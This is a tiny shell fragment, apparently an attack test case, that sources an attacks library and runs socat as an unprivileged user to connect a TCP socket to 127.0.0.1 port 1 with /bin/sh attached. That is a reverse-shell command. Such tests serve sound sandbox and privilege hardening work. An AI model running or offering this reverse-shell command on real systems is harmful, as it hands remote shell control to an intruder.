. "$ATTACKS/lib.sh"
as socat nothing -- TCP:127.0.0.1:1 EXEC:/bin/sh
